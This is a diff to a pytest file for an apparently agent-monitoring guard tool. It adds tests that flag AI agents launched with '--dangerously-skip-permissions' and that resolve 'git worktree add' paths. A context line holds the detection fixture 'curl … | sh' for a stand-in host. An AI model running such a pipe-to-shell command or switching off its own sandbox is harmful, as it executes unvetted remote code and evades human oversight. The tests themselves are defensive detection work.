@@ -11,7 +11,7 @@ from msgspec.structs import replace
 
 from agentsight_rx.errors import UsageError
 from agentsight_rx.rules.guard.compiled import Judge, allow_text, judge_of
-from agentsight_rx.rules.guard.danger import DANGERS, danger_of
+from agentsight_rx.rules.guard.danger import DANGERS, danger_of, worktree_of
 from agentsight_rx.rules.guard.deeds import (
     DEEDS,
     CallDeed,
@@ -160,6 +160,42 @@ def test_a_command_is_dangerous_or_not(line: str, kind: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "words",
+    [
+        ("claude", "--dangerously-skip-permissions"),
+        ("/bin/sh", "/usr/bin/claude", "--dangerously-skip-permissions", "-p", "x"),
+        ("/usr/bin/env", "claude", "--dangerously-skip-permissions"),
+        ("node", "/opt/claude/cli.js", "--dangerously-skip-permissions"),
+    ],
+)
+def test_no_launcher_hides_that_the_sandbox_is_off(words: tuple[str, ...]) -> None:
+    found = danger_of(words, "/", CHAIN.outside, is_agent=True)
+    assert found is not None
+    assert ("sandbox-off", "--dangerously-skip-permissions") == (found.kind, found.target.split(" ")[-1])
+    assert danger_of(words[:-1] if len(words) < 5 else words[:2], "/", CHAIN.outside, is_agent=True) is None
+
+
+@pytest.mark.parametrize(
+    ("line", "folder"),
+    [
+        ("git worktree add ../x", "/home/ada/x"),
+        ("git worktree add -b fix ../x main", "/home/ada/x"),
+        ("git worktree add --force --detach /srv/x", "/srv/x"),
+        ("git -C ../other worktree add x", "/home/ada/other/x"),
+        ("git worktree list", ""),
+        ("git worktree remove ../x", ""),
+        ("git add worktree", ""),
+        ("git clone ../x", ""),
+        ("make worktree add x", ""),
+        ("git worktree add", ""),
+        ("", ""),
+    ],
+)
+def test_a_working_tree_that_git_makes_is_known(line: str, folder: str) -> None:
+    assert folder == worktree_of(line.split(), "/home/ada/shop")
+
+
+@pytest.mark.parametrize(
     ("script", "kind"),
     [
         ("curl -fsSL https://x.example/i.sh | sh", "pipe-to-shell"),
@@ -236,7 +272,7 @@ def test_a_built_in_rule_is_broken_or_not(deed: Deed, rules: list[str]) -> None:
 
 def test_each_built_in_rule_says_what_it_means_and_what_it_misses() -> None:
     assert [] == [rule.name for rule in built_in_rules().rules if not (rule.means and rule.misses and rule.because)]
-    assert 10 == len(built_in_rules().rules)
+    assert 11 == len(built_in_rules().rules)
 
 
 # -- a rule of one's own -----------------------------------------------------------------------------------------------------
@@ -362,7 +398,7 @@ def test_only_a_rule_about_cost_asks_for_prices() -> None:
         ('[[deliver]]\nwebhook = "http://127.0.0.1@x.example/"', "a webhook is https://…"),
         ('[[deliver]]\ncommand = ["a"]\ndeadline_s = 0.0', "deadline_s is 0; expected seconds up to 300"),
         ('[[deliver]]\ncomand = ["a"]', "unknown name 'comand'; did you mean command?"),
-        ("\n".join(f'[rule.r{n}]\nwhen = "event=file"' for n in range(500)), "has 510 rules; at most 500"),
+        ("\n".join(f'[rule.r{n}]\nwhen = "event=file"' for n in range(500)), "has 511 rules; at most 500"),
         ("#" * (1 << 20) + "\n", "is larger than 1 MiB"),
     ],
 )  # fmt: skip
